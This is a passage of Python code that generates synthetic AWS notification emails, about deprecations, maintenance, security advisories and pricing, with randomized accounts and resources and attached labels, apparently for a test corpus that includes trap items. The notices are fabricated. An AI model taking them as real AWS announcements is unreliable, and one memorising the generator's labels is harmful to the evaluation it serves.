    m.p(f"Starting {fmt_date(dl, 'dmy')}, Step Functions will stop doing so, and no traces will be recorded for "
        "these state machines unless their execution roles grant the X-Ray permissions. Executions "
        "themselves are not affected.")
    m.p("Affected state machines:")
    m.ul(sorted(set(sms)))
    m.p("We request that you add the permissions, for example by attaching the AWSXrayWriteOnlyAccess "
        "managed policy to each execution role.")
    m.refs(["https://docs.aws.amazon.com/step-functions/latest/dg/concepts-xray-tracing.html"])
    sign_en(m)


def b_al2(m, c):
    a = m.acct
    dl = D(2026, 6, 30)
    m.category, m.services, m.deadline = "action-required", ["EC2"], dl
    m.group = "amazon-linux-2-end-of-support"
    m.subject = "[Action Required] Amazon Linux 2 reached end of support on June 30, 2026"
    rows = []
    for reg in pick_regions(a):
        m.regions.add(reg)
        for _ in range(rng.randint(1, 6)):
            rows.append([rdisp(reg, c["rstyle"]), iid(trap=rng.random() < 0.2), f"ami-0{hexs(16)}",
                         rng.choice(("m5.large", "t3.medium", "c6i.xlarge", "r6g.large"))])
    m.p("Hello,")
    m.p(f"Amazon Linux 2 reached the end of its support on {fmt_date(dl, 'long')}. Since that date "
        "Amazon Linux 2 no longer receives security updates or bug fixes, and new AMIs are no longer "
        "published.")
    m.p(f"Our records show that your AWS account {a.id} still runs EC2 instances launched from "
        "Amazon Linux 2 AMIs:")
    m.table(["Region", "Instance ID", "AMI", "Instance type"], rows)
    m.p("Please migrate these workloads to Amazon Linux 2023 as soon as possible. Instances keep "
        "running, but they are exposed to vulnerabilities that will not be fixed.")
    m.refs(["https://aws.amazon.com/amazon-linux-2/faqs/",
            "https://docs.aws.amazon.com/linux/al2023/ug/compare-with-al2.html"])
    sign_en(m)


SGW_DL = D(2027, 1, 1)


def b_sgw(m, c):
    a = m.acct
    m.category, m.services, m.deadline = "action-required", ["STORAGEGATEWAY"], SGW_DL
    gws = []
    for reg in pick_regions(a):
        m.regions.add(reg)
        for _ in range(rng.randint(1, 2)):
            gws.append((reg, f"arn:aws:storagegateway:{reg}:{a.id}:gateway/sgw-{hexs(8).upper()}",
                        rng.choice(("File Gateway (S3)", "Volume Gateway (cached)", "Tape Gateway")),
                        rng.choice(("VMware ESXi", "Microsoft Hyper-V", "Linux KVM"))))
    kind = c.get("reminder")
    if kind:
        m.subject = f"Final reminder: Your AWS Storage Gateway VM will be deprecated on {fmt_date(SGW_DL, 'long')}"
        m.group = "storage-gateway-vm-deprecation/final-reminder"
    else:
        m.subject = (f"[Action Required]: Your AWS Storage Gateway VM will be deprecated on "
                     f"{fmt_date(SGW_DL, 'long')}. Please migrate to a new gateway VM.")
        m.group = "storage-gateway-vm-deprecation"
    m.p("Hello,")
    if kind:
        m.p("This is a final reminder: we wrote to you earlier this month about the gateway VMs below.")
    m.p(f"Your AWS account {a.id} has one or more AWS Storage Gateway appliances running on a VM image "
        "based on an operating system that reaches end of life. These gateway VMs will be deprecated on "
        f"{fmt_date(SGW_DL, 'long')}. After that date they will no longer receive software updates, and "
        "AWS Support will not be able to troubleshoot them.")
    m.table(["Region", "Gateway", "Type", "Host platform"], [[g[0], g[1], g[2], g[3]] for g in gws])
    m.p("To keep receiving updates, deploy a new gateway VM from the current image and migrate your "
        "data and configuration to it, following the migration guide [1]. Migration does not require "
        "you to copy data again for File Gateway.")
    m.refs(["https://docs.aws.amazon.com/filegateway/latest/files3/migrate-data.html"])
    sign_en(m)


WS_DL = D(2026, 12, 1)


def b_workspaces_fw(m, c):
    a = m.acct
    m.category, m.services, m.deadline = "action-required", ["WORKSPACES"], WS_DL
    base = "[Action Needed] – Update Firewall settings to allow access to expanded IP address ranges for Amazon WorkSpaces."
    if c.get("reminder"):
        m.subject = "Reminder - " + base
        m.group = "workspaces-firewall-ip-ranges/reminder"
    else:
        m.subject = base
        m.group = "workspaces-firewall-ip-ranges"
    dirs = []
    for reg in pick_regions(a):
        m.regions.add(reg)
        dirs.append([rdisp(reg, "name"), f"d-{hexs(10)}", str(rng.randint(3, 240))])
    m.p("Dear Amazon WorkSpaces customer,")
    m.p("Amazon WorkSpaces is expanding the IP address ranges used by its streaming gateways and "
        f"management components. Starting {fmt_date(WS_DL, 'ltime')}, WorkSpaces clients will connect "
        "to addresses in the new ranges.")
    m.p(f"Your AWS account {a.id} has WorkSpaces in the following directories:")
    m.table(["Region", "Directory", "WorkSpaces"], dirs)
    m.p("If your users connect through a firewall or proxy that restricts outbound traffic, please add "
        "the new ranges, published in the ip-ranges.json file under the WORKSPACES_GATEWAYS service, to "
        f"your allow lists before {fmt_date(WS_DL, 'ltime')}. Otherwise users may be unable to connect.")
    m.refs(["https://docs.aws.amazon.com/workspaces/latest/adminguide/workspaces-port-requirements.html",
            "https://ip-ranges.amazonaws.com/ip-ranges.json"])
    sign_en(m, "The Amazon WorkSpaces Team")
    if not c.get("reminder"):
        m.mime, m.charset, m.cte = "html", "ISO-8859-1", "quoted-printable"
    m.subj_enc = "q"


def b_elb(m, c):
    a = m.acct
    dl = D(2027, 1, 12)
    m.category, m.services, m.deadline = "action-required", ["ELASTICLOADBALANCING"], dl
    m.group = "elb-chromium-cookie-change"
    m.subject = "Action Required: Upcoming changes for Chromium based browsers affecting ELB"
    lbs = []
    for reg in pick_regions(a):
        m.regions.add(reg)
        for _ in range(rng.randint(1, 3)):
            lbs.append(f"arn:aws:elasticloadbalancing:{reg}:{a.id}:loadbalancer/app/"
                       f"{rng.choice(('web', 'api', 'portal', 'checkout'))}-{rng.choice(ENVS)}-alb/{hexs(16)}")
    m.p("Hello,")
    m.p(f"Chromium based browsers (Google Chrome, Microsoft Edge and others) will change how they handle "
        f"cookies set for cross-site requests, with a release planned for {fmt_date(dl, 'long')}. "
        "Application Load Balancers that use load balancer generated stickiness cookies for cross-origin "
        "requests may lose session affinity for users of these browsers.")
    m.p(f"Your AWS account {a.id} has Application Load Balancers with duration-based stickiness enabled:")
    m.ul(sorted(set(lbs)))
    m.p("ELB already sets the AWSALBCORS cookie in addition to AWSALB. If your application relies on "
        "stickiness for cross-origin requests, test it with a pre-release version of the browser and, if "
        f"needed, move to application-based stickiness before {fmt_date(dl, 'long')}.")
    m.refs(["https://docs.aws.amazon.com/elasticloadbalancing/latest/application/sticky-sessions.html"])
    sign_en(m)


def b_connect(m, c):
    a = m.acct
    dl = D(2026, 12, 7)
    m.category, m.services, m.deadline = "action-required", ["CONNECT"], dl
    m.group = "connect-new-domain"
    m.subject = f"[ACTION MAY BE REQUIRED] Amazon Connect launches new domain, connect.aws, starting {fmt_date(dl, 'long')}"
    reg = rng.choice(a.regions)
    m.regions = {reg}
    alias = f"{a.name}-cc"
    m.p("Hello,")
    m.p(f"Starting {fmt_date(dl, 'long')}, the Amazon Connect agent workspace and admin website for new and "
        f"existing instances will be served from the domain connect.aws, for example https://{alias}.my.connect.aws. "
        f"The instance below in your AWS account {a.id} is affected:")
    m.pre(f"Instance ARN: arn:aws:connect:{reg}:{a.id}:instance/{uuid4()}\nAccess URL: https://{alias}.my.connect.aws\n"
          f"Previous URL: https://{alias}.awsapps.com/connect")
    m.p("If your agents' networks restrict outbound access, or your integrations embed the Contact "
        "Control Panel, action may be required: add *.my.connect.aws to your allow lists and to the "
        "approved origins of your instance. Existing URLs keep working and redirect to the new domain.")
    m.refs(["https://docs.aws.amazon.com/connect/latest/adminguide/ccp-networking.html"])
    sign_en(m)


EKS_DL = D(2026, 11, 26)


def b_eks(m, c):
    a = m.acct
    m.category, m.services, m.deadline = "action-required", ["EKS"], EKS_DL
    rem = c.get("reminder")
    clusters = []
    for reg in pick_regions(a):
        m.regions.add(reg)
        for _ in range(rng.randint(1, 2)):
            clusters.append(f"arn:aws:eks:{reg}:{a.id}:cluster/{rng.choice(('platform', 'apps', 'batch', 'ml'))}-{rng.choice(ENVS)}")
    clusters = sorted(set(clusters))
    if m.lang == "ja":
        m.subject = f"[要対応] Amazon EKS Kubernetes バージョン 1.31 の延長サポート終了 ({fmt_date(EKS_DL, 'ja')})"
        m.group = "eks-1.31-end-of-extended-support"
        m.p("AWS をご利用いただきありがとうございます。")
        arn = event_block(m, "EKS", "AWS_EKS_PLANNED_LIFECYCLE_EVENT", clusters[0].split(":")[3], c["t0"])
        m.p(f"Amazon EKS における Kubernetes バージョン 1.31 の延長サポートは {fmt_date(EKS_DL, 'jaw')} に終了します。"
            f"お客様の AWS アカウント {a.id} には、バージョン 1.31 で実行されている次のクラスターがあります。")
        m.ul(clusters)
        m.p("延長サポート終了後、これらのクラスターのコントロールプレーンは、サポートされている最も古いバージョンへ"
            "自動的にアップグレードされます。アドオンやワークロードの互換性を確認のうえ、期限までにアップグレードを"
            "実施してください。")
        m.p("AWS Health Dashboard: " + health_link(arn))
        sign_ja(m)
        m.mime, m.charset, m.cte = "plain", "ISO-2022-JP", "7bit"
        m.subj_enc = "b2022"
        return
    if rem:
        m.subject = f"Reminder: Amazon EKS Kubernetes version 1.31 end of extended support on {fmt_date(EKS_DL, 'long')}"
        m.group = "eks-1.31-end-of-extended-support/reminder"
    else:
        m.subject = f"[Action Required] Amazon EKS Kubernetes version 1.31 end of extended support on {fmt_date(EKS_DL, 'long')}"
        m.group = "eks-1.31-end-of-extended-support"
    m.p("Hello,")
    arn = event_block(m, "EKS", "AWS_EKS_PLANNED_LIFECYCLE_EVENT", clusters[0].split(":")[3], c["t0"])
    if rem:
        m.p("This is a reminder: the clusters below still run Kubernetes version 1.31.")
    m.p(f"Extended support for Kubernetes version 1.31 on Amazon EKS ends on {fmt_date(EKS_DL, 'long')}. "
        f"Your AWS account {a.id} has the following clusters on version 1.31:")
    m.ul(clusters)
    m.p("After that date, EKS will automatically upgrade the control plane of these clusters to the oldest "
        "version in extended support. Automatic upgrades can break workloads that use removed APIs, so we "
        "recommend that you upgrade the clusters yourself, after checking add-on and API compatibility "
        "with the cluster insights in the EKS console.")
    m.refs(["https://docs.aws.amazon.com/eks/latest/userguide/kubernetes-versions.html",
            health_link(arn)])
    sign_en(m)


ROBO_DL = D(2027, 1, 31)


def b_robomaker(m, c):
    a = m.acct
    m.sender = HEALTH
    m.category, m.services, m.deadline = "action-required", ["ROBOMAKER"], ROBO_DL
    m.group = "robomaker-end-of-life"
    reg = rng.choice([r for r in a.regions if r in ("us-east-1", "us-west-2", "eu-west-1", "ap-northeast-1")] or ["us-east-1"])
    m.regions = {reg}
    apps = [f"arn:aws:robomaker:{reg}:{a.id}:simulation-application/{rng.choice(('warehouse-sim', 'nav-test', 'picker-arm'))}/"
            f"{rng.randint(1690000000000, 1790000000000)}" for _ in range(rng.randint(1, 3))]
    arn = health_arn(reg, "ROBOMAKER", "AWS_ROBOMAKER_PLANNED_LIFECYCLE_EVENT")
    if m.lang == "ja":
        m.subject = f"AWS RoboMaker サポート終了のお知らせ [AWS Account: {a.id}]"
        m.p("AWS をご利用いただきありがとうございます。")
        m.p(f"AWS RoboMaker は {fmt_date(ROBO_DL, 'jaw')} をもってサポートを終了します。この日以降、AWS RoboMaker "
            "コンソールおよび API にはアクセスできなくなり、シミュレーションジョブは実行できなくなります。")
        m.p(f"お客様のアカウント {a.id} には、次のリソースがあります:")
        m.ul(apps)
        m.p("シミュレーションのワークロードは、AWS Batch などのサービスへ移行することをお勧めします。"
            "必要なデータは期限までにエクスポートしてください。")
        m.p("リージョン: " + rdisp(reg, "both", "ja") + "\nアカウント: " + a.id)
        m.p("AWS Health Dashboard で詳細を確認する:\n" + health_link(arn))
        m.p("このメールは AWS User Notifications から送信されました。")
        m.mime, m.charset, m.cte = "plain", "UTF-8", "base64"
        m.subj_enc = "bsplit"
        return
    m.subject = f"AWS RoboMaker End of Life Support Notice [AWS Account: {a.id}]"
    m.p("Hello,")
    m.p(f"After careful consideration, AWS RoboMaker will end support on {fmt_date(ROBO_DL, 'long')}. After that date "
        "you will no longer be able to access the AWS RoboMaker console or API, and simulation jobs will no "
        "longer run.")
    m.p(f"Your AWS account {a.id} has the following AWS RoboMaker resources in {rdisp(reg, 'both')}:")
    m.ul(apps)
    m.p("We recommend moving simulation workloads to AWS Batch, which can run the same containers. "
        "Export any simulation data you want to keep before the end of support date.")
    m.pre(f"Region: {reg}\nAccount Id: {a.id}\nEvent type: AWS_ROBOMAKER_PLANNED_LIFECYCLE_EVENT")
    m.p("View this event in the AWS Health Dashboard:\n" + health_link(arn))
    m.p("You received this e-mail because you are an account contact. To change which AWS Health "
        "notifications you receive by e-mail, open the AWS User Notifications console.")
    m.p(COPY_EN)


CT_DL = D(2026, 12, 10)


def b_cloudtrail(m, c):
    a = m.acct
    m.sender = HEALTH
    m.category, m.services, m.deadline = "action-required", ["CLOUDTRAIL", "IAM"], CT_DL
    m.group = "cloudtrail-managed-policy-scope-down"
    m.subject = f"CloudTrail Managed Policy Scope Down [AWS Account: {a.id}]"
    arn = health_arn("us-east-1", "CLOUDTRAIL", "AWS_CLOUDTRAIL_OPERATIONAL_NOTIFICATION")
    ents = sorted({f"arn:aws:iam::{a.id}:role/{rng.choice(('auditor', 'secops-readonly', 'log-analyst', 'grafana-reader'))}"
                   for _ in range(rng.randint(1, 3))})
    m.p("Hello,")
    m.p(f"On {fmt_date(CT_DL, 'long')}, AWS CloudTrail will scope down the AWS managed policy "
        "AWSCloudTrailReadOnlyAccess. The updated policy no longer grants s3:GetObject and s3:ListBucket "
        "on all buckets; it grants read access to CloudTrail resources only.")
    m.p(f"The following IAM identities in account {a.id} have the policy attached and may lose access to "
        "trail log files stored in Amazon S3:")
    m.ul(ents)
    members = c.get("members", {}).get(a.id, [])
    if members:
        m.p("Identities in these member accounts of your organization are affected as well: "
            + ", ".join(x.id for x in members) + ".")
        m.accounts.update(x.id for x in members)
    m.p(f"If these identities need to read trail log files, attach a policy that grants read access to "
        f"your trail buckets before {fmt_date(CT_DL, 'long')}. No other permissions change.")
    m.p("Region: Global\nAccount: " + a.id)
    m.p("View this event in the AWS Health Dashboard:\n" + health_link(arn))
    m.p(COPY_EN)


# ---- maintenance --------------------------------------------------------------
def b_retire(m, c):
    a = m.acct
    m.category, m.services = "maintenance", ["EC2"]
    m.deadline = c["ts"].date() + dt.timedelta(days=c["days"])
    reg = c["region"]
    m.regions = {reg}
    inst = c["iid"]
    m.group = f"ec2-retirement/{inst}"
    m.subject = "[Retirement Notification] Amazon EC2 Instance scheduled for retirement."
    dtxt = fmt_date(m.deadline, c["dstyle"])
    if c["dstyle"] == "iso":
        dtxt += " 07:00 UTC"
    m.p("Dear Amazon EC2 Customer,")
    m.p(f"We have important news about your account (AWS Account ID: {a.id}). EC2 has detected "
        f"degradation of the underlying hardware hosting your Amazon EC2 instance (instance-ID: {inst}) "
        f"in the {reg} region. Due to this degradation your instance could already be unreachable. "
        f"After {dtxt} your instance, which has an EBS volume as the root device, will be stopped.")
    m.p("You can see more information on your instances that are scheduled for retirement in the "
        "AWS Management Console (https://console.aws.amazon.com/ec2/v2/home?region=" + reg + "#Events).")
    m.h("* How does this affect you?")
    m.p("Your instance will be stopped after the specified retirement date. You can start it again at "
        "any time. Note that if you have EC2 instance store volumes attached, any data on them will be "
        "lost when the instance is stopped or terminated, as these volumes are physically attached to the "
        "host computer.")
    m.h("* What do you need to do?")
    m.p("You may still be able to access the instance. We recommend that you replace it by creating an "
        "AMI of your instance and launching a new instance from the AMI, or stop and start the instance "
        "yourself before the retirement date, which moves it to healthy hardware.")
    m.h("* Why retirement?")
    m.p("AWS may schedule instances for retirement when the underlying hardware can no longer be "
        "repaired. See the EC2 documentation [1] for details.")
    m.refs(["https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instance-retirement.html"])
    m.p("Sincerely,\nAmazon Web Services")
    m.p(FOOTER_EN)


RDSOS_DL = D(2026, 12, 1)


def b_rds_os(m, c):
    a = m.acct
    m.category, m.services, m.deadline = "maintenance", ["RDS"], RDSOS_DL
    m.group = "rds-os-upgrade-2026-12"
    rows = []
    for reg in pick_regions(a):
        m.regions.add(reg)
        for _ in range(rng.randint(1, 4)):
            rows.append([f"arn:aws:rds:{reg}:{a.id}:db:{dbname()}", "system-update"])
    if m.lang == "ja":
        m.subject = "【メンテナンス】Amazon RDS オペレーティングシステムの更新のお知らせ"
        m.p("AWS をご利用いただきありがとうございます。")
        m.p(f"{fmt_date(RDSOS_DL, 'ja')}以降、お客様の AWS アカウント {a.id} の Amazon RDS DB インスタンスに対して、"
            "オペレーティングシステムの更新をメンテナンスウィンドウ中に自動的に適用します。")
        m.table(["リソース", "アクション"], rows)
        m.p("マルチ AZ 配置の場合、更新はスタンバイに先に適用され、その後フェイルオーバーが発生します。"
            "シングル AZ 配置の場合、数分間 DB インスタンスが利用できなくなります。期限前にご都合のよい時間に"
            "更新を適用することもできます。")
        sign_ja(m)
        return
    m.subject = "Amazon RDS planned maintenance: operating system update for your DB instances"
    m.p("Hello,")
    arn = event_block(m, "RDS", "AWS_RDS_SYSTEM_UPGRADE_SCHEDULED", sorted(m.regions)[0], c["t0"])
    m.p(f"Starting {fmt_date(RDSOS_DL, 'long')}, Amazon RDS will apply an operating system update to the "
        f"following DB instances in your AWS account {a.id} during their maintenance windows:")
    m.table(["Resource", "Pending action"], rows)
    m.p("For Multi-AZ deployments the update is applied to the standby first, followed by a failover. "
        "Single-AZ instances are unavailable for a few minutes. You can apply the update earlier with "
        "the AWS CLI command aws rds apply-pending-maintenance-action.")
    m.p("AWS Health event: " + health_link(arn))
    sign_en(m)


def b_elasticache(m, c):
    a = m.acct
    dl = D(2026, 12, 18)
    m.category, m.services, m.deadline = "maintenance", ["ELASTICACHE"], dl
    m.group = "elasticache-service-update-2026-12"
    m.subject = "Amazon ElastiCache service update available for your clusters"
    rows = []
    for reg in pick_regions(a):
        m.regions.add(reg)
        for _ in range(rng.randint(1, 3)):
            rows.append([rdisp(reg, c["rstyle"]), f"{rng.choice(('sessions', 'cache', 'rate-limit'))}-{rng.choice(ENVS)}",
                         "elasticache-20261112-security"])
    m.p("Hello,")
    m.p(f"A security service update is available for the following ElastiCache clusters in your AWS "
        f"account {a.id}. If you do not apply it yourself, ElastiCache will apply it automatically during "
        f"your maintenance window on or after {fmt_date(dl, 'long')}.")
    m.table(["Region", "Replication group", "Service update"], rows)
    m.p("Clusters with replicas and Multi-AZ enabled are updated one node at a time with a failover. "
        "You can apply the update at a time of your choosing from the Service updates page of the console.")
    sign_en(m)


def b_aurora(m, c):
    a = m.acct
    dl = D(2027, 1, 6)
    m.category, m.services, m.deadline = "maintenance", ["RDS"], dl
    m.group = "aurora-postgresql-auto-patches-2027-01"
    m.subject = "Automatic patches available for Amazon Aurora with PostgreSQL Compatibility"
    rows = []
    for reg in pick_regions(a):
        m.regions.add(reg)
        for _ in range(rng.randint(1, 3)):
            rows.append([f"arn:aws:rds:{reg}:{a.id}:cluster:{rng.choice(DB_WORDS)}-aurora-{rng.choice(ENVS)}",
                         rng.choice(("15.8", "16.4")), rng.choice(("15.8.1", "16.4.1"))])
    m.p("Hello,")
    m.p(f"New patch versions are available for Amazon Aurora PostgreSQL-Compatible Edition. Your AWS "
        f"account {a.id} has clusters with automatic minor version upgrades enabled. Beginning "
        f"{fmt_date(dl, 'long')}, Aurora will apply the patch automatically during each cluster's "
        "maintenance window.")
    m.table(["DB cluster", "Current version", "Patch version"], rows)
    m.p("The patch includes security fixes and improvements to stability. Applying it restarts the "
        "database, typically for less than a minute; Aurora zero-downtime patching keeps client "
        "connections where it can.")
    m.refs(["https://docs.aws.amazon.com/AmazonRDS/latest/AuroraPostgreSQLReleaseNotes/Welcome.html"])
    sign_en(m)


def b_docdb(m, c):
    a = m.acct
    dl = D(2026, 12, 14)
    m.category, m.services, m.deadline = "maintenance", ["DOCDB"], dl
    m.group = "docdb-default-engine-4.0.0"
    m.subject = "Amazon DocumentDB to update default engine version to 4.0.0"
    reg = rng.choice(a.regions)
    m.regions = {reg}
    m.p("Hello,")
    m.p(f"Starting {fmt_date(dl, 'long')}, when you create an Amazon DocumentDB (with MongoDB compatibility) "
        "cluster without specifying an engine version, the cluster will be created with engine version "
        "4.0.0 instead of 3.6.0. The AWS Management Console, AWS CLI, SDKs and AWS CloudFormation all "
        "follow the new default.")
    m.p(f"You are receiving this message because your AWS account {a.id} has created DocumentDB clusters in "
        f"{rdisp(reg, 'both')} in the last 90 days, for example "
        f"arn:aws:rds:{reg}:{a.id}:cluster:docdb-{rng.choice(ENVS)}-{rng.randint(1, 9)}.")
    m.p("Existing clusters are not changed. If your templates or scripts rely on the 3.6.0 default, "
        "specify the engine version explicitly.")
    sign_en(m)


REBOOT_DL = D(2026, 12, 3)


def b_reboot(m, c):
    a = m.acct
    m.category, m.services, m.deadline = "maintenance", ["EC2"], REBOOT_DL
    m.group = "ec2-system-reboot-2026-12-03"
    reg = a.regions[0]
    m.regions = {reg}
    rows = [[iid(trap=rng.random() < 0.15), rng.choice(("m5.large", "c5.xlarge", "r5.2xlarge", "t3.medium")),
             "system-reboot", f"{REBOOT_DL.isoformat()} 15:00 - 19:00 UTC"] for _ in range(rng.randint(1, 4))]
    if m.lang == "ja":
        m.subject = f"【メンテナンス】{REGION_JA[reg]} リージョンにおける Amazon EC2 インスタンスの再起動予定のお知らせ"
        m.p("AWS をご利用いただきありがとうございます。")
        m.p(f"{REGION_JA[reg]} リージョンで、お客様の AWS アカウント {a.id} の Amazon EC2 インスタンスをホストしている"
            f"基盤の計画メンテナンスを {fmt_date(REBOOT_DL, 'jaw')} に予定しています。メンテナンス中にインスタンスが"
            "再起動されます。")
        m.table(["インスタンス ID", "タイプ", "イベント", "期間"], rows)
        m.p("再起動は数分で完了します。EBS ボリュームをルートデバイスとするインスタンスは、期限前に停止と起動を"
            "行うことで、メンテナンスの対象外にできます。")
        sign_ja(m)
        if c.get("sjis"):
            m.mime, m.charset, m.cte = "plain", "Shift_JIS", "8bit"
            m.subj_enc = "bsjis"
        return
    m.subject = f"[Scheduled Maintenance] Amazon EC2 instance reboot in the {REGION_EN[reg]} Region"
    m.p("Hello,")
    m.p(f"One or more Amazon EC2 instances in your AWS account {a.id} in the {rdisp(reg, 'both')} Region "
        f"are scheduled for a system reboot on {fmt_date(REBOOT_DL, 'long')} for maintenance of the underlying "
        "host. During the reboot each instance is unavailable for a few minutes.")
    m.table(["Instance ID", "Type", "Event", "Window"], rows)
    m.p("You can reschedule the event from the Events page of the EC2 console, or stop and start an "
        "EBS-backed instance before the window to move it to another host.")
    sign_en(m)


# ---- security advisories ---------------------------------------------------------
def b_s3_public(m, c):
    a = m.acct
    m.category, m.services, m.deadline = "security-advisory", ["S3"], None
    m.group = "s3-public-buckets-2026-11"
    m.subject = "Notification of Amazon S3 buckets configured for public access"
    rows = []
    for reg in pick_regions(a):
        m.regions.add(reg)
        for _ in range(rng.randint(1, 3)):
            rows.append([f"{a.name}-{rng.choice(('assets', 'static', 'public', 'exports', 'uploads'))}-{hexs(4)}",
                         rdisp(reg, c["rstyle"]), rng.choice(("Bucket policy", "ACL", "ACL and bucket policy"))])
    m.p("Hello,")
    m.p(f"We're writing to let you know that you have configured Amazon S3 buckets in your AWS account {a.id} "
        "to be publicly accessible. This may be a larger audience than you intended.")
    m.p("By default only the bucket owner can access a bucket's contents. Buckets that allow public "
        "access can be read by anyone on the internet, and their content can be indexed by search engines.")
    m.p("The buckets below can be publicly accessed:")
    m.table(["Bucket", "Region", "Public through"], rows)
    m.p("If this access is not intended, turn on S3 Block Public Access for the bucket or for the whole "
        "account. If you serve public content on purpose, no action is needed.")
    m.refs(["https://docs.aws.amazon.com/AmazonS3/latest/userguide/access-control-block-public-access.html"])
    sign_en(m)


def b_ecs_docker(m, c):
    a = m.acct
    dl = D(2026, 12, 14)
    # Advice about a third party's change (Docker Hub's pull limits), not a vulnerability or a risky
    # configuration: informational, as the independent corpus labelling also read it.
    m.category, m.services, m.deadline = "informational", ["ECS"], None
    m.group = "ecs-docker-hub-rate-limits"
    m.subject = "[Important Notification] Advice for customers using ECS to deal with newly introduced Docker Hub rate limits"
    reg = rng.choice(a.regions)
    m.regions = {reg}
    m.p("Hello,")
    m.p(f"Docker has announced lower pull rate limits for anonymous and free Docker Hub users, taking effect "
        f"on {fmt_date(dl, 'long')}. Amazon ECS tasks in your AWS account {a.id} in {rdisp(reg, 'both')} pulled "
        "public images from Docker Hub without authentication in the last 30 days.")
    m.p("When the limit is reached, new tasks fail to start with CannotPullContainerError, which can stop "
        "scaling or deployments of your services.")
    m.ul(["Copy the images you use to Amazon ECR, or pull them through an ECR pull through cache rule.",
          "Use Amazon ECR Public Gallery images where they exist.",
          "If you must pull from Docker Hub, store your Docker Hub credentials in AWS Secrets Manager "
          "and configure private registry authentication for your task definitions."])
    m.refs(["https://docs.aws.amazon.com/AmazonECR/latest/userguide/pull-through-cache.html"])
    sign_en(m)


def b_bulletin(m, c):
    a = m.acct
    m.category, m.services, m.deadline = "security-advisory", ["EC2", "ECS", "EKS"], None
    m.group = "security-bulletin-aws-2026-019"
    m.subject = "Security Bulletin AWS-2026-019: container runtime issue affecting self-managed container hosts"
    m.p("Hello,")
    m.p("AWS is aware of a newly disclosed issue in runc, the low-level container runtime used by containerd "
        "and Docker. A container started from a malicious image could, under specific conditions, gain access "
        "to the host file system.")
    m.p(f"AWS-managed infrastructure (AWS Fargate, Amazon ECS and EKS managed node AMIs released after "
        f"November 20, 2026) is not affected. Your AWS account {a.id} runs self-managed container hosts "
        "from older AMIs.")
    m.p("We recommend that you update to the latest ECS-optimized or EKS-optimized AMI, or update the runc "
        "package on your own hosts, and only run images from trusted sources.")
    m.refs(["https://aws.amazon.com/security/security-bulletins/"])
    sign_en(m, "Amazon Web Services Security")


# ---- pricing -------------------------------------------------------------------
def b_marketplace(m, c):
    a = m.acct
    dl = D(2027, 2, 15)
    m.sender = MARKETPLACE
    m.category, m.services, m.deadline = "pricing", ["MARKETPLACE"], dl
    m.group = "marketplace-price-change-dataguard"
    m.subject = "AWS Marketplace Price Change Notification"
    m.p("Hello,")
    m.p(f"You are receiving this message because your AWS account {a.id} is subscribed to the AWS Marketplace "
        "product below. The seller has changed its price.")
    m.table(["Product", "Seller", "Dimension", "Current price", "New price"],
            [["DataGuard Pro for AWS", "Example Analytics Inc.", "per instance hour (m5.xlarge)", "$0.120", "$0.150"],
             ["DataGuard Pro for AWS", "Example Analytics Inc.", "per instance hour (m5.2xlarge)", "$0.240", "$0.300"]])
    m.p(f"The new price takes effect on {fmt_date(dl, 'long')} and applies to all usage from that date. "
        "If you do not want to continue at the new price, you can cancel the subscription from the "
        "Manage subscriptions page of AWS Marketplace before that date.")
    m.p("Thank you for using AWS Marketplace.\n\nAWS Marketplace")


def b_ipv4(m, c):
    a = m.acct
    dl = D(2027, 2, 1)
    m.category, m.services, m.deadline = "pricing", ["VPC"], dl
    m.group = "public-ipv4-charge-2027-02"
    m.subject = f"Upcoming change to the charge for public IPv4 addresses, effective {fmt_date(dl, 'long')}"
    rows = []
    for reg in pick_regions(a, 2):
        m.regions.add(reg)
        n = rng.randint(2, 90)
        rows.append([rdisp(reg, c["rstyle"]), str(n), f"${n * 0.005 * 730:.2f}", f"${n * 0.006 * 730:.2f}"])
    m.p("Hello,")
    m.p(f"Effective {fmt_date(dl, 'long')}, the charge for public IPv4 addresses, whether in use or idle, "
        "changes from $0.005 to $0.006 per IP address per hour in all commercial AWS Regions.")
    m.p(f"Based on the last 30 days, your AWS account {a.id} uses the following public IPv4 addresses:")
    m.table(["Region", "Public IPv4 addresses", "Monthly estimate today", "Monthly estimate from February"], rows)
    m.p("You can use the public IP insights of Amazon VPC IP Address Manager to find addresses you no "
        "longer need, and consider IPv6 for new workloads.")
    m.refs(["https://aws.amazon.com/vpc/pricing/"])
    sign_en(m)
    if "sa-east-1" in m.regions:
        m.mime, m.charset, m.cte = "html", "ISO-8859-1", "quoted-printable"


ES_DL = D(2027, 3, 1)


def b_rds_es(m, c):
    a = m.acct
    m.category, m.services, m.deadline = "pricing", ["RDS"], ES_DL
    m.group = "rds-extended-support-postgresql-14"
    rows = []
    for reg in pick_regions(a):
        m.regions.add(reg)
        for _ in range(rng.randint(1, 3)):
            rows.append([f"arn:aws:rds:{reg}:{a.id}:db:{dbname()}", "postgres 14.15", str(rng.choice((2, 4, 8, 16)))])
    if m.lang == "ja":
        m.subject = f"【AWS】Amazon RDS for PostgreSQL 14 の RDS 延長サポート料金について ({fmt_date(ES_DL, 'ja')}より)"
        m.p("AWS をご利用いただきありがとうございます。")
        m.p(f"Amazon RDS for PostgreSQL 14 の標準サポートは 2027年2月28日に終了し、{fmt_date(ES_DL, 'ja')}から、"
            "引き続き PostgreSQL 14 で実行されている DB インスタンスには RDS 延長サポートの料金が発生します。")
        m.p(f"お客様の AWS アカウント {a.id} の対象 DB インスタンス:")
        m.table(["DB インスタンス", "エンジン", "vCPU"], rows)
        m.p("料金の発生を避けるには、期限までに PostgreSQL 16 以降へアップグレードしてください。")
        sign_ja(m)
        m.mime, m.charset, m.cte = "plain", "UTF-8", "base64"
        m.subj_enc = "b"
        return
    m.subject = f"Amazon RDS Extended Support charges begin {fmt_date(ES_DL, 'long')} for RDS for PostgreSQL 14"
    m.p("Hello,")
    m.p(f"Standard support for Amazon RDS for PostgreSQL 14 ends on February 28, 2027. Beginning "
        f"{fmt_date(ES_DL, 'long')}, DB instances that still run PostgreSQL 14 are enrolled in RDS Extended "
        "Support, which is charged per vCPU-hour in addition to the instance price.")
    m.p(f"The following DB instances in your AWS account {a.id} will incur Extended Support charges unless "
        "they are upgraded before that date:")
    m.table(["DB instance", "Engine", "vCPUs"], rows)
    m.p("To avoid the charges, upgrade to PostgreSQL 16 or later. Blue/green deployments let you upgrade "
        "with minimal downtime.")
    m.refs(["https://aws.amazon.com/rds/pricing/"])
    sign_en(m)


# ---- billing -------------------------------------------------------------------
